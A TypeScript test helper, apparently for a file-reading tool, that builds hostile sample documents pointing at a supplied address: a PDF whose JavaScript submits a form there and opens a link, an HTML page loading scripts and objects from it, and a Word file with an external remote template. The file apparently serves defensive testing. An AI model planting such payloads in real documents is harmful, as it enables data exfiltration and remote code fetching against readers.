import { buildDocx } from "./build-docx.ts";
import { buildPdf, printLines } from "./build-pdf.ts";
import { type HostileFile, harmlessLines } from "./hostile-files.ts";

/**
 * Readable files that ask a careless reader to run a script or to fetch something.
 *
 * @param site address that nobody must ask, with a slash at its end
 */
export const hostileLinks = (site: string): readonly HostileFile[] => [
  ["a PDF with scripts", () => buildPdf([{ texts: printLines(harmlessLines) }], scripts(site)), "read"],
  ["a web page with parts from elsewhere", () => Buffer.from(page(site)), "read"],
  [
    "a Word file with a template from elsewhere",
    () =>
      buildDocx(
        harmlessLines.map((text) => ({ text })),
        [{ name: "word/_rels/settings.xml.rels", content: template(site) }],
      ),
    "read",
  ],
];

const scripts = (site: string): string =>
  `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("${site}"\\)) >> /AA << /WC << /S /URI /URI (${site}) >> >>`;

const page = (site: string): string =>
  `<!doctype html><html><head><base href="${site}"><link rel="stylesheet" href="a.css"><script src="a.js"></script></head><body><p>${harmlessLines.join(" ")}</p><img src="a.png"><object data="b"></object></body></html>`;

const template = (site: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${site}t.dotm" TargetMode="External"/></Relationships>`;
